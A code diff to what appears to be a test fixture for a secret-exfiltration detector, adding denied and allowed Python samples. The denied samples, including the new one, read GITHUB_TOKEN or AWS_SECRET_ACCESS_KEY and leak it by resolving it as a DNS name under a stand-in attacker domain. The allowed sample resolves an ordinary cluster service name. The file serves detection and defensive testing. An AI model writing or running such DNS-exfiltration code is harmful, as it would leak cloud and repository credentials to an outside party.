@@ -257,6 +257,12 @@ DENIED: dict[str, dict[str, str]] = {
         "    token = os.environ.get('GITHUB_TOKEN', '')\n"
         "    socket.getaddrinfo(token + '.t.attacker.invalid', 443)\n"
     ),
+    "secret-joined-into-a-dns-name-when-called": init(
+        "import os, socket\n"
+        "def sync():\n"
+        "    k = os.environ['AWS_SECRET_ACCESS_KEY'].encode().hex()[:60]\n"
+        "    socket.gethostbyname('.'.join([k, 'x', 'attacker', 'invalid']))\n"
+    ),
     "secret-resolved-by-dnspython-when-called": init(
         "import os\n"
         "import dns.resolver\n"
@@ -447,6 +453,12 @@ ALLOWED: dict[str, dict[str, str]] = {
         "import os, socket\n"
         "def service_ip():\n"
         "    return socket.gethostbyname(os.environ['SERVICE_NAME'] + '.svc.cluster.local')\n"
+    ),
+    "service-name-joined-under-the-cluster-domain": init(
+        "import os, socket\n"
+        "def service_ip():\n"
+        "    name = os.environ['SERVICE_NAME']\n"
+        "    return socket.gethostbyname('.'.join([name, 'svc', 'cluster', 'local']))\n"
     ),
     "database-host-from-the-environment-resolved": init(
         "import os, socket\n"
